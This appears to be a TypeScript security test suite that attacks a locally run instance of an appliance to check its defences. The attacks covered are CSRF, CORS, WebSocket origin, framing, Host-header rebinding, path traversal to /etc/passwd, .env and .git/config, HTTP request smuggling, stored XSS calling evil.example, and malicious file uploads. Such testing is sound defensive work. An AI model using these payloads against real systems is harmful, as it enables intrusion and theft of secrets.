import { once } from "node:events";
import { connect } from "node:net";
import { WebSocket } from "ws";
import type { Attack } from "./attack.ts";
import { type AttackWorld, PASSWORD, type Received } from "./attack-world.ts";

const EVIL = "https://evil.example";

async function sessionOf(world: AttackWorld, email: string): Promise<string> {
  const answer = await world.ask("POST", "//api/login", {
    json: { email, password: PASSWORD },
    headers: { origin: world.url },
    from: "127.30.1.1",
  });
  return (answer.headers["set-cookie"] ?? []).map((each) => each.split(";", 1)[0]).join("; ");
}

const distinct = (answers: readonly Received[]): string => [...new Set(answers.map(({ status }) => status))].join(", ");

/** A page elsewhere makes the browser of an administrator send changes. */
async function forgeRequests(world: AttackWorld) {
  const cookie = await sessionOf(world, "admin@example.org");
  const form = "name=Forged";
  const console = { "x-carillon-console": "1" };
  const json = { "content-type": "application/json" };
  const tries: [Record<string, string>, string][] = [
    [{ origin: EVIL, ...json }, '{"name":"Forged"}'],
    [{ origin: EVIL, ...json, ...console }, '{"name":"Forged"}'],
    [{ origin: "null", ...json, ...console }, '{"name":"Forged"}'],
    [{ origin: `${world.url}.evil.example`, ...json, ...console }, '{"name":"Forged"}'],
    [{ origin: world.url.replace("http:", "https:"), ...json }, '{"name":"Forged"}'],
    [{ ...json, ...console }, '{"name":"Forged"}'],
    [{ "content-type": "text/plain" }, '{"name":"Forged"}'],
    [{ origin: EVIL, "content-type": "application/x-www-form-urlencoded" }, form],
    [{ "content-type": "application/x-www-form-urlencoded", referer: `${EVIL}/` }, form],
    [{ origin: EVIL, "content-type": "application/x-www-form-urlencoded", "x-http-method-override": "PUT" }, form],
  ];
  const answers: Received[] = [];
  for (const [headers, body] of tries)
    answers.push(await world.ask("POST", "/distribution-lists", { cookie, headers, body }));
  for (const path of [`/users/${world.pupil.id}?_method=DELETE`, `/users/${world.pupil.id}/delete`])
    answers.push(
      await world.ask("GET", path, { cookie, headers: { origin: EVIL, "x-http-method-override": "DELETE" } }),
    );
  const made = await world.ask("GET", "/distribution-lists?name=Forged", { token: world.first.token });
  const there = (await world.ask("GET", `/users/${world.pupil.id}`, { token: world.first.token })).status;
  const own = { origin: world.url, ...json, ...console };
  const control = await world.ask("POST", "/distribution-lists", { cookie, headers: own, body: '{"name":"Own"}' });
  return {
    answered: distinct(answers),
    gains: [
      ...(control.status < 300 ? [] : [`proves nothing: the console's request was answered ${control.status}`]),
      ...(made.body.total > 0 ? [`${made.body.total} lists were made`] : []),
      ...(there === 200 ? [] : ["a user was deleted"]),
    ],
  };
}

/** A page elsewhere reads answers with the cookie or by CORS. */
async function readAcross(world: AttackWorld) {
  const cookie = await sessionOf(world, "admin@example.org");
  const gains: string[] = [];
  const answers: Received[] = [];
  for (const origin of [EVIL, "null", `${world.url}.evil.example`, "http://127.0.0.1:1"]) {
    const answer = await world.ask("GET", "/users", { cookie, headers: { origin } });
    const preflight = await world.ask("OPTIONS", "/users", {
      headers: {
        origin,
        "access-control-request-method": "DELETE",
        "access-control-request-headers": "x-carillon-console",
      },
    });
    answers.push(answer, preflight);
    for (const { headers } of [answer, preflight]) {
      const allowed = headers["access-control-allow-origin"];
      if (headers["access-control-allow-credentials"] === "true" && allowed !== undefined)
        gains.push(`${origin} may read with cookies`);
    }
    if (/x-carillon-console/i.test(String(preflight.headers["access-control-allow-headers"] ?? "")))
      gains.push(`${origin} may send the console's header`);
  }
  return { answered: distinct(answers), gains };
}

/** A page elsewhere opens the live feed with the cookie of an administrator. */
async function openSocketAcross(world: AttackWorld) {
  const cookie = await sessionOf(world, "admin@example.org");
  const results: string[] = [];
  const gains: string[] = [];
  for (const origin of [world.url, EVIL, "null", `${world.url}.evil.example`]) {
    const socket = new WebSocket(`${world.url.replace("http", "ws")}/api/live`, { headers: { cookie, origin } });
    // `once` rejects with the error of a refused connection.
    const kind = await once(socket, "open").then(
      () => "open",
      (error: Error) => error.message,
    );
    socket.on("error", () => undefined);
    const isOwn = origin === world.url;
    if (!isOwn) results.push(kind);
    if (isOwn && kind !== "open") gains.push(`proves nothing: the console's feed: ${kind}`);
    if (!isOwn && kind === "open") gains.push(`${origin} reads the live feed`);
    socket.terminate();
  }
  return { answered: [...new Set(results)].join(", "), gains };
}

/** Pages in a frame, with scripts from elsewhere, or guessed as another type. */
async function frame(world: AttackWorld) {
  const gains: string[] = [];
  const answers: Received[] = [];
  for (const path of ["//", "//help/", "//api/v1/docs", "//inbox/", "//login", "//api/v1/openapi.json"]) {
    const answer = await world.ask("GET", path);
    answers.push(answer);
    if (answer.headers["x-content-type-options"] !== "nosniff") gains.push(`${path} may be sniffed`);
    if (!/text\/html/.test(String(answer.headers["content-type"]))) continue;
    const policy = String(answer.headers["content-security-policy"] ?? "");
    if (!/frame-ancestors 'none'/.test(policy)) gains.push(`${path} may be framed`);
    if (!/(script-src|default-src) '(self|none)'/.test(policy) || /script-src[^;]*unsafe/.test(policy))
      gains.push(`${path} runs scripts from elsewhere`);
  }
  return { answered: distinct(answers), gains };
}

/** Another name in the Host header: rebinding, and poisoned links. */
async function otherHost(world: AttackWorld) {
  const answers: Received[] = [];
  const gains: string[] = [];
  for (const host of [
    "evil.example",
    "127.0.0.1.evil.example",
    "evil.example:80",
    "localhost.evil.example",
    "[::1].evil",
  ]) {
    for (const path of ["//", "/users", "//api/login"]) {
      const answer = await world.ask("GET", path, { token: world.first.token, headers: { host } });
      answers.push(answer);
      if (answer.status < 300) gains.push(`${path} was served as ${host}`);
    }
  }
  const forwarded = await world.ask("GET", "/session", {
    token: world.first.token,
    headers: { "x-forwarded-host": "evil.example", forwarded: "host=evil.example", "x-forwarded-proto": "https" },
  });
  if (forwarded.text.includes("evil.example")) gains.push("X-Forwarded-Host is taken into links");
  return { answered: distinct([...answers, forwarded]), gains };
}

/** Files outside of what is served. */
async function climb(world: AttackWorld) {
  const paths = [
    "/../../../../etc/passwd",
    "/help/../../../../etc/passwd",
    "/help/..%2f..%2f..%2fetc%2fpasswd",
    "/help/%2e%2e/%2e%2e/%2e%2e/package.json",
    "/assets/..%5c..%5c..%5cetc%5cpasswd",
    "/assets/....//....//etc/passwd",
    "/help/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/assets/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "//etc/passwd",
    "/assets/index.js%00.html",
    "/x/ip-phones/../../api/v1/users",
    "/carillon.db",
    "/data/secret.key",
    "/.git/config",
    "/.env",
    "/server-status",
  ];
  const gains: string[] = [];
  const answers: number[] = [];
  for (const path of paths) {
    const text = await spoken(world, `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
    answers.push(Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1] ?? 0));
    if (/root:x?:|SQLite format 3|"dependencies"|\[core\]/.test(text)) gains.push(`${path} was read`);
  }
  return { answered: [...new Set(answers)].sort().join(", "), gains };
}

/** Headers and lines that a proxy in front could read otherwise than the daemon. */
async function smuggle(world: AttackWorld) {
  const head = "POST /api/v1/users HTTP/1.1\r\nHost: 127.0.0.1\r\n";
  const hidden = "GET /api/v1/users HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
  const attacks = [
    `${head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
    `${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${hidden}`,
    `${head}Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n${hidden}`,
    `${head}Content-Length: 0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
    `${head}Content-Length: +0\r\n\r\n${hidden}`,
    `${head}Content-Length: 0x0\r\n\r\n${hidden}`,
    `${head}Host: evil.example\r\nContent-Length: 0\r\n\r\n`,
    `${head}X: a\rHost: evil.example\r\nContent-Length: 0\r\n\r\n`,
    `${head}Transfer-Encoding: chunked\r\n\r\n0;\n${hidden}\r\n0\r\n\r\n`,
  ];
  const gains: string[] = [];
  const statuses: string[] = [];
  for (const text of attacks) {
    const answer = await spoken(world, text);
    const all = [...answer.matchAll(/HTTP\/1\.1 (\d+)/g)].map(([, status]) => status ?? "");
    statuses.push(...all);
    if (all.length > 1 || all.some((status) => !status.startsWith("4"))) gains.push(`it answered ${all.join(", ")}`);
  }
  return { answered: [...new Set(statuses)].sort().join(", ") || "closed", gains };
}

async function spoken({ url }: AttackWorld, text: string): Promise<string> {
  const socket = connect(Number(new URL(url).port), "127.0.0.1");
  let answer = "";
  socket.setEncoding("latin1").on("data", (part: string) => {
    answer = (answer + part).slice(0, 200_000);
  });
  socket.on("error", () => undefined).setTimeout(3_000, () => socket.destroy());
  socket.end(text);
  await once(socket, "close");
  return answer;
}

/** What people type that becomes part of pages, tables and file names for others. */
async function plantMarkup(world: AttackWorld) {
  const script = `<script>fetch("${EVIL}")</script><img src=x onerror=alert(1)>`;
  const token = world.manager.token;
  const list = await world.ask("POST", "/distribution-lists", { token, json: { name: script.slice(0, 140) } });
  const plan = await world.ask("POST", "/notifications", {
    token,
    json: { subject: script.slice(0, 140), body: script, userIds: [world.manager.id] },
  });
  const gains: string[] = [];
  const answers: Received[] = [list, plan];
  if (plan.status >= 300) gains.push(`the message was answered ${plan.status}: ${plan.text.slice(0, 100)}`);
  for (const path of [
    `/distribution-lists/${list.body.id}`,
    `/notifications/${plan.body.id}`,
    `/notifications/${plan.body.id}/report`,
    `/notifications/${plan.body.id}/recipients?format=csv`,
    `/distribution-lists?name=${encodeURIComponent(script.slice(0, 100))}`,
    `/no-such-page/${encodeURIComponent(script)}`,
    `/docs/${encodeURIComponent(script)}`,
  ]) {
    const answer = await world.ask("GET", path, { token });
    answers.push(answer);
    const isPage = /html|svg|xml/.test(String(answer.headers["content-type"] ?? ""));
    if (isPage && answer.text.includes(`<script>fetch("${EVIL}`)) gains.push(`${path.slice(0, 40)} runs it`);
  }
  return { answered: distinct(answers), gains };
}

/** Images that are pages, archives that unpack elsewhere. */
async function uploadPages(world: AttackWorld) {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
  const files: [string, string, string][] = [
    ["plan.svg", "image/svg+xml", svg],
    ["plan.png", "image/png", svg],
    ["plan.png", "image/png", "<html><script>alert(1)</script></html>"],
    ["../../../../tmp/attack.png", "image/png", "no image"],
    ["plan.png\0.html", "image/png", `GIF89a<script>alert(1)</script>`],
  ];
  const answers: Received[] = [];
  const gains: string[] = [];
  for (const [name, type, content] of files) {
    const edge = "attack-edge";
    const body = `--${edge}\r\nContent-Disposition: form-data; name="name"\r\n\r\nEvil\r\n--${edge}\r\nContent-Disposition: form-data; name="logo"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${edge}--\r\n`;
    const answer = await world.ask("POST", "/brandings", {
      token: world.manager.token,
      headers: { "content-type": `multipart/form-data; boundary=${edge}` },
      body,
    });
    answers.push(answer);
    if (answer.status < 300 && answer.body.logo) gains.push(`${JSON.stringify(name)} as ${type} was kept`);
  }
  return { answered: distinct(answers), gains };
}

export const BROWSER_ATTACKS: readonly Attack[] = [
  { by: "website", what: "makes the browser of an administrator change something (CSRF)", run: forgeRequests },
  { by: "website", what: "reads answers across origins (CORS)", run: readAcross },
  { by: "website", what: "opens the live feed across origins", run: openSocketAcross },
  { by: "website", what: "frames pages, adds scripts, guesses content types", run: frame },
  { by: "website", what: "serves the appliance under another host name (DNS rebinding)", run: otherHost },
  { by: "stranger", what: "reads files outside of those that are served", run: climb },
  { by: "stranger", what: "hides a second request in the first (request smuggling)", run: smuggle },
  { by: "manager of North", what: "writes markup into names and messages that others look at", run: plantMarkup },
  { by: "manager of North", what: "uploads pages as images, and names with paths", run: uploadPages },
];
